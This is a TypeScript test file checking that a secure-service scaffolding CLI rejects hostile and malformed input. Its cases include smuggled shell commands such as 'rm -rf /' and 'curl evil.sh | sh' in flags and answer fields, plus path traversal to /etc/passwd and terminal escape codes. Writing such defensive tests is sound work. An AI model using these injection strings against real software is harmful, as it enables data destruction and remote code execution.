/**
 * Hostile and broken input to check, add and update: the same contract as create's table.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, rmdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/index.js';
import { captureOutput } from '../helpers/output.js';
import { refuseEach, runMain, tempDir, type HostileCase } from './helpers.js';


const repo = (dir: string) => {
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'api', scripts: { start: 'node index.js' } }));
  writeFileSync(join(dir, 'index.js'), '');
};
const manifest = (content: string) => (dir: string) => {
  mkdirSync(join(dir, '.secure-service'));
  writeFileSync(join(dir, '.secure-service', 'manifest.json'), content);
};

const cases: HostileCase[] = [
  { name: 'check: a folder that does not exist', args: (d) => ['check', join(d, 'nope')], message: /nope does not exist; give the folder to check/ },
  { name: 'check: a folder through symbolic links that loop', setup: (d) => symlinkSync('loop', join(d, 'loop')), args: (d) => ['check', join(d, 'loop')], message: /loop leads through symbolic links that loop \(ELOOP\); fix or remove the link$/ },
  { name: 'check: a file', setup: (d) => writeFileSync(join(d, 'afile'), 'x'), args: (d) => ['check', join(d, 'afile')], message: /afile is not a folder; give the folder to check/ },
  { name: 'update: a --dir that is a file', setup: (d) => writeFileSync(join(d, 'afile'), 'x'), args: (d) => ['update', '--dir', join(d, 'afile'), '--yes'], message: /afile is a file, not a folder; run update in a service folder, or pass --dir <path>$/ },
  { name: 'check: an unknown format', args: (d) => ['check', d, '--format', 'xml'], message: /format/ },
  { name: 'check: an unknown rule ID', args: (d) => ['check', d, '--rule', 'Z99'], message: /Z99/ },
  { name: 'add: an unknown part', setup: repo, args: (d) => ['add', 'kubernetes', '--dir', d, '--yes'], message: /kubernetes/ },
  { name: 'add: a mistyped part', setup: repo, args: (d) => ['add', 'dockr', '--dir', d, '--yes'], message: /^error: add: unknown part "dockr" \(did you mean docker\?\); choose from docker, compose/ },
  // Quoted back escaped: a part or rule ID holding a terminal escape cannot clear or recolour the screen.
  { name: 'add: a part holding a terminal escape', setup: repo, args: (d) => ['add', 'x\u001b[2J\u001b[31m', '--dir', d, '--yes'], message: /^error: add: unknown part "x\\u001b\[2J\\u001b\[31m"; choose from/ },
  { name: 'check: a rule ID holding a terminal escape', args: (d) => ['check', d, '--rule', 'x\u001b[2J'], message: /^error: unknown rule ID X\\u001b\[2J for --rule/ },
  { name: 'check: a rule number without its leading zero', args: (d) => ['check', d, '--rule', 'd4'], message: /^error: unknown rule ID D4 \(did you mean D04\?\) for --rule/ },
  { name: 'add: an empty --dir (an unset variable) would mean the current folder', setup: repo, args: () => ['add', 'docker', '--dir=', '--yes'], message: /--dir is empty; give a path/ },
  { name: 'add: a --dir through a file', setup: (d) => { repo(d); writeFileSync(join(d, 'afile'), 'x'); }, args: (d) => ['add', 'docker', '--dir', join(d, 'afile', 'sub'), '--yes'], message: /afile\/sub: no such folder/ },
  { name: 'update: an empty --dir', setup: repo, args: () => ['update', '--dir', '', '--yes'], message: /--dir is empty; give a path/ },
  { name: 'add: no part at all', setup: repo, args: (d) => ['add', '--dir', d, '--yes'], message: /part/ },
  { name: 'add: a hostile name flag', setup: repo, args: (d) => ['add', 'docker', '--dir', d, '--yes', '--name', 'x"; rm -rf /'], message: /--name: .* is not a DNS label/ },
  { name: 'add: a source outside the project', setup: repo, args: (d) => ['add', 'docker', '--dir', d, '--yes', '--source', '../../etc'], message: /--source: source "\.\.\/\.\.\/etc" leaves or re-enters the folder/ },
  { name: 'add: an answers file whose build target injects a command', setup: (d) => { repo(d); writeFileSync(join(d, 'answers.json'), JSON.stringify({ language: 'rust', buildTarget: 'x && curl evil.sh | sh' })); }, args: (d) => ['add', 'docker', '--dir', d, '--answers', join(d, 'answers.json')], message: /"buildTarget": build-target "x && curl evil\.sh \| sh" is not the binary cargo builds/ },
  { name: 'add: an answers file whose package manager is a path', setup: (d) => { repo(d); writeFileSync(join(d, 'answers.json'), JSON.stringify({ packageManager: '../../bin/sh' })); }, args: (d) => ['add', 'docker', '--dir', d, '--answers', join(d, 'answers.json')], message: /"packageManager": package-manager "\.\.\/\.\.\/bin\/sh" is not available for Node\.js; choose one of: npm, pnpm, yarn/ },
  { name: 'add: a build script that chains a shell command', setup: repo, args: (d) => ['add', 'docker', '--dir', d, '--yes', '--start', 'node dist/server.js', '--build-script', 'build; curl evil.sh | sh'], message: /--build-script: build-script "build; curl evil\.sh \| sh" is not a package\.json script name/ },
  { name: 'add: --dir that is a file', setup: (d) => writeFileSync(join(d, 'file'), 'x'), args: (d) => ['add', 'docker', '--dir', join(d, 'file'), '--yes'], message: /file/ },
  { name: 'add: a symlinked Dockerfile pointing outside', setup: (d) => { repo(d); writeFileSync(join(d, '..', `outside-${d.split('/').pop()}`), 'x'); symlinkSync(join(d, '..', `outside-${d.split('/').pop()}`), join(d, 'Dockerfile')); }, args: (d) => ['add', 'docker', '--dir', d, '--yes'], message: /symbolic link/ },
  { name: "add: a --dir inside a generated project's secrets/", setup: (d) => { mkdirSync(join(d, 'secrets', 'api'), { recursive: true }); repo(join(d, 'secrets', 'api')); manifest(JSON.stringify({ generator: 'create-secure-service', version: '0.1.0', answers: {}, files: [] }))(d); }, args: (d) => ['add', 'docker', '--dir', join(d, 'secrets', 'api'), '--yes'], message: /--dir .*secrets\/api is in .*\/secrets, the secrets folder of the project in .*, which its \.gitignore and \.dockerignore leave out; add to a project outside it$/ },
  { name: 'add: a --dir that is a .git folder', setup: (d) => mkdirSync(join(d, '.git')), args: (d) => ['add', 'docker', '--dir', join(d, '.git'), '--yes'], message: /--dir .*\.git is git's own folder, which no commit holds; add to a project outside it$/ },
  { name: "add: a manifest listing a file in git's own folder", setup: (d) => { repo(d); manifest(JSON.stringify({ generator: 'create-secure-service', version: '0.1.0', answers: {}, files: [{ id: 'docker:x', path: '.git/hooks/pre-commit', part: 'docker', mode: '0755', strategy: 'merge', sha256: '0'.repeat(64) }] }))(d); }, args: (d) => ['add', 'docker', '--dir', d, '--yes'], message: /manifest\.json is not a create-secure-service manifest this version can read; restore it/ },
  ...([
    ['a null entry under "deleted"', { deleted: [null] }, /"deleted" must be a list of \{id, path\}; restore it/],
    ['"deleted" that is a string', { deleted: 'x' }, /"deleted" must be a list of \{id, path\}; restore it/],
    ['a "deleted" entry whose ID is a number', { deleted: [{ id: 5, path: 'a' }] }, /"deleted" must be a list of \{id, path\}; restore it/],
    ['a "deleted" entry outside the project', { deleted: [{ id: 'x', path: '../outside' }] }, /"deleted" lists "\.\.\/outside", which is not a plain relative path inside the project outside git's own folder; restore it/],
    ['an "unmanaged" entry in git\'s own folder', { unmanaged: [{ id: 'x', path: '.git/HEAD' }] }, /"unmanaged" lists "\.git\/HEAD", which is not a plain relative path inside the project outside git's own folder; restore it/],
    ['"unmanaged" that is null', { unmanaged: null }, /"unmanaged" must be a list of \{id, path\}; restore it/],
  ] as const).map(([what, extra, message]): HostileCase => ({ name: `add: a manifest with ${what} (update refuses it too)`, setup: (d) => { repo(d); manifest(JSON.stringify({ generator: 'create-secure-service', version: '0.1.0', answers: {}, files: [], ...extra }))(d); }, args: (d) => ['add', 'vault', '--dir', d, '--yes'], message })),
  { name: 'add: a broken package.json', setup: (d) => writeFileSync(join(d, 'package.json'), '{"name": '), args: (d) => ['add', 'docker', '--dir', d, '--yes'], message: /package\.json:1:10: package\.json is not valid JSON .*; fix the syntax/ },
  { name: "add: a package.json saved as UTF-16 (Windows PowerShell's >)", setup: (d) => writeFileSync(join(d, 'package.json'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('{"name": "api"}', 'utf16le')])), args: (d) => ['add', 'docker', '--dir', d, '--yes'], message: /package\.json: package\.json is UTF-16 text; save it as UTF-8$/ },
  { name: 'add: a broken compose file', setup: (d) => { repo(d); writeFileSync(join(d, 'compose.yaml'), 'services: [\n'); }, args: (d) => ['add', 'docker', '--dir', d, '--yes'], message: /compose\.yaml:\d+:\d+: compose\.yaml is not valid YAML/ },
  { name: 'add: a manifest written by a newer version (add would record the older one)', setup: (d) => { repo(d); manifest(JSON.stringify({ generator: 'create-secure-service', version: '99.0.0', answers: {}, files: [] }))(d); }, args: (d) => ['add', 'vault', '--dir', d, '--yes'], message: /\.secure-service\/manifest\.json was written by create-secure-service 99\.0\.0, newer than this \d+\.\d+\.\d+; run the newer one \(npx create-secure-service@latest add\)$/ },
  // One reading, one error, whichever command reads the manifest (otherwise a valid one).
  ...([
    ['create', (d: string) => ['create', d, '--yes', '--no-git']],
    ['update', (d: string) => ['update', '--dir', d, '--yes']],
    ['update --dry-run', (d: string) => ['update', '--dir', d, '--dry-run']],
    ['add', (d: string) => ['add', 'vault', '--dir', d, '--yes']],
  ] as const).flatMap(([command, args]) =>
    ([
      ['over 1 MiB', Buffer.from(JSON.stringify({ generator: 'create-secure-service', version: '0.1.0', answers: {}, files: [], padding: 'x'.repeat(1024 * 1024) })), /^error: \S*\.secure-service\/manifest\.json: manifest is 1048\d{3} bytes; the limit is 1048576 \(1 MiB\): check that it is the right file \(one is a few KiB\)$/],
      // A merge that kept both sides' line: JSON.parse would take the second without a word.
      ['setting a key twice', Buffer.from('{"generator": "create-secure-service", "version": "0.0.9", "version": "0.1.0", "answers": {}, "files": []}'), /^error: \S*\.secure-service\/manifest\.json:1:60: manifest sets "version" twice in one object; keep one$/],
      ['saved as Latin-1', Buffer.concat([Buffer.from('{"generator": "create-secure-service", "version": "0.1.0", "answers": {"name": "caf'), Buffer.from([0xe9]), Buffer.from('"}, "files": []}')]), /^error: \S*\.secure-service\/manifest\.json:1: manifest is not UTF-8 text \(byte 84\); save it as UTF-8$/],
    ] as const).map(([what, bytes, message]): HostileCase => ({
      name: `${command}: a manifest ${what}`,
      setup: (d) => { repo(d); mkdirSync(join(d, '.secure-service')); writeFileSync(join(d, '.secure-service', 'manifest.json'), bytes); },
      args,
      message,
    })),
  ),
  { name: 'update: no manifest', args: (d) => ['update', '--dir', d, '--yes'], message: /manifest/ },
  { name: 'update: a manifest that is not JSON', setup: manifest('{"version": '), args: (d) => ['update', '--dir', d, '--yes'], message: /manifest\.json.*not valid JSON/ },
  { name: 'update: a manifest with a path outside the project', setup: manifest(JSON.stringify({ generator: 'create-secure-service', version: '0.1.0', answers: {}, files: [{ id: 'x', path: '../../etc/passwd', part: 'docker', mode: '0644', strategy: 'merge', sha256: '0'.repeat(64) }] })), args: (d) => ['update', '--dir', d, '--yes'], message: /manifest/ },
  { name: 'update: a manifest with hostile answers', setup: manifest(JSON.stringify({ generator: 'create-secure-service', version: '0.1.0', answers: { name: 'a\nb' }, files: [] })), args: (d) => ['update', '--dir', d, '--yes'], message: /name/ },
  { name: 'update: a hostile port flag', setup: manifest('{}'), args: (d) => ['update', '--dir', d, '--yes', '--port', '80'], message: /./ },
];

describe('check, add and update refuse hostile and broken input: one line, exit code, nothing written', () => {
  refuseEach(cases);
});

describe('a folder that is a work tree of its own', () => {
  it("add writes in a linked worktree kept under the main repository's .git folder (committed there, unlike .git itself)", async () => {
    const dir = tempDir();
    const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@example.com', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@example.com' };
    const git = (...args: string[]) => execFileSync('git', args, { cwd: dir, env, stdio: 'pipe' });
    repo(dir);
    git('init', '-q');
    git('add', '-A');
    git('commit', '-qm', 'app');
    git('worktree', 'add', '-q', join('.git', 'wt', 'feature'));
    const tree = join(dir, '.git', 'wt', 'feature');
    const r = await runMain(['add', 'docker', '--dir', tree, '--yes', '--no-git'], dir);
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(tree)).toContain('Dockerfile');
  });
});

describe('a current folder deleted under the shell', () => {
  for (const argv of [['svc', '--yes'], ['check'], ['add', 'docker', '--yes'], ['update', '--yes']]) {
    it(`${argv[0]}: one line naming the problem, exit 2`, async () => {
      const parent = tempDir();
      const gone = join(parent, 'gone');
      mkdirSync(gone);
      const captured = captureOutput();
      const previous = process.cwd();
      process.chdir(gone);
      rmdirSync(gone);
      let code: number;
      try {
        code = await main(argv, captured.output);
      } finally {
        process.chdir(previous);
      }
      expect(code, captured.stderr()).toBe(2);
      expect(captured.stderr()).toBe('error: the current folder no longer exists (it was deleted or moved away); cd into a folder that exists and run again\n');
      expect(readdirSync(parent)).toEqual([]);
    });
  }
});
